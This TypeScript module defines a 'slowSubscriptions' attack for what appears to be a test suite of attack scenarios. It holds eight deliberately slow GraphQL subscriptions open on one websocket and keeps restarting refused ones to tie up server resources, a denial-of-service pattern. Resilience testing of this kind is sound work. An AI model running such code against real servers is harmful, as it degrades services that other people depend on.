import type { Attack } from './attack.ts';
import { openGraphqlSocket } from './graphql-socket.ts';
import { persistently } from './persistently.ts';
import { slowOperation } from './slow-pattern.ts';

const SUBSCRIPTIONS = 8;
const ADDRESS = '203.0.113.2';

/** Holds eight subscriptions on one socket whose statement takes seconds; a refused one is begun again. */
export const slowSubscriptions: Attack = ({ url }) =>
  persistently(async (count) => {
    let serial = 0;
    const begin = () => {
      serial += 1;
      subscriber.subscribe(String(serial), slowOperation('subscription'));
    };
    const subscriber = await openGraphqlSocket({ url, address: ADDRESS }, ({ type }) => {
      count(type);
      if (type === 'error' || type === 'complete') setTimeout(beginAgain, 500).unref();
    });
    const beginAgain = () => {
      if (subscriber.socket.readyState === subscriber.socket.OPEN) begin();
    };
    for (let at = 0; at < SUBSCRIPTIONS; at += 1) begin();

    return subscriber.socket;
  });
